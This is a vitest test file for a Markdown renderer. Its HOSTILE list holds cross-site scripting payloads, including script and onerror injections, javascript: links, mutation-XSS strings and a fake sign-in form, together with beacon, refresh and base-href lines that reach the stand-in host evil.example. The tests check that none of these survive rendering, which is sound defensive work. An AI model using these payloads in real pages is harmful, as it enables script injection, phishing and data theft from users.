import { expect, test } from "vitest";
import { MOST, readable, render } from "./markdown";

function shown(source: string, citations = false): HTMLDivElement {
  const holder = document.createElement("div");
  holder.append(render(source, { citations }) ?? "");
  return holder;
}

const HOSTILE = [
  "<script>window.bad = 1</script>",
  "<img src=x onerror=alert(1)>",
  "![beacon](https://evil.example/p.png?q=secret)",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form action=https://evil.example><input name=token><button>Sign in</button></form>",
  "<iframe src=https://evil.example></iframe>",
  "<style>body{display:none}</style>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<video src=https://evil.example/v.mp4 autoplay></video>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x)",
  "<a href='https://evil.example' ping='https://evil.example' target=_blank>x</a>",
  "<div id=root name=location class='toast' data-cite=1 onclick=alert(1)>x</div>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><img src=x onerror=alert(1)></template>",
  "[x]: https://evil.example\n\n[x]",
  "```html\n<img src=x onerror=alert(1)>\n```",
];

const NOTHING_OF = "script,img,svg,math,style,form,input,iframe,link,meta,base,video,object,embed";

test.each(HOSTILE)("nothing of %s runs, loads or leads away", (source) => {
  const made = shown(source);
  expect(made.querySelectorAll(`${NOTHING_OF},template,noscript,a[href]`)).toHaveLength(0);
  for (const element of made.querySelectorAll("*")) {
    const names = element.getAttributeNames();
    expect(
      names.filter((name) => /^on|^(style|id|name|src|srcset|ping|target)$/.test(name)),
    ).toEqual([]);
  }
});

test("a link is its text and an address that can be copied", () => {
  const made = shown("See [our page](https://a.example/x).");
  expect(made.querySelector(".md-link")?.textContent).toBe("our page");
  expect(made.querySelector<HTMLElement>("button.md-url")?.dataset.url).toBe("https://a.example/x");
});

test("a bare address is shown once", () => {
  expect(shown("https://a.example/x").textContent?.trim()).toBe("https://a.example/x");
});

test("a link within the page stays one", () => {
  expect(shown("[part](#part)").querySelector("a")?.getAttribute("href")).toBe("#part");
});

test("the headings of an answer are not headings of the page", () => {
  const made = shown("# Title\n\ntext");
  expect(made.querySelector("h1")).toBeNull();
  expect(made.querySelector(".md-h1")?.textContent).toBe("Title");
});

test("citations are marked in text, and not in code", () => {
  const made = shown("as told [2] and [KB-112], but `a[1]` is code", true);
  const cited = [...made.querySelectorAll<HTMLElement>(".cite")].map((one) => one.dataset.cite);
  expect(cited).toEqual(["2", "KB-112"]);
});

test("what a reader sees is compared, not the signs of Markdown", () => {
  expect(readable("**Refund** in `30` days\n\n- one\n- 二")).toBe(
    "Refund in 30 days\n\n• one\n• 二",
  );
});

test("a text that is too long to parse is not parsed", () => {
  expect(render("a".repeat(MOST + 1))).toBeNull();
});
